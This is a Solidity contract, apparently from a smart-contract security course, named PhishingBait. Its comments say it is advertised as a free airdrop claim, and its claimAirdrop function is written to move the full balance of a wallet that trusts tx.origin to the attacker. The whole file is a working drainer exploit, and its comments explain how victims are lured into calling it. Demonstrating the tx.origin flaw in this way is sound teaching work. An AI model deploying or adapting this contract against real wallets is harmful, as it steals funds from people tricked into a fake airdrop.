// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @notice The function both course wallets (TxOriginWallet, SafeWallet) have.
interface IOwnedWallet {
    function transfer(address payable to, uint256 amount) external;
}

/// @title PhishingBait: a contract that promises an airdrop and empties a tx.origin wallet.
/// @notice The attacker deploys it aimed at the victim's wallet, then advertises "claim your
/// free tokens". When the wallet's owner calls `claimAirdrop`, this contract calls the
/// wallet's `transfer` inside the owner's own transaction, so `tx.origin` is the owner.
contract PhishingBait {
    IOwnedWallet public immutable wallet;
    address payable public immutable attacker;

    constructor(address wallet_, address payable attacker_) {
        wallet = IOwnedWallet(wallet_);
        attacker = attacker_;
    }

    /// @notice What the victim reads: "claim your airdrop". What it does: moves the whole
    /// balance of the wallet to the attacker.
    function claimAirdrop() external {
        wallet.transfer(attacker, address(wallet).balance);
    }
}
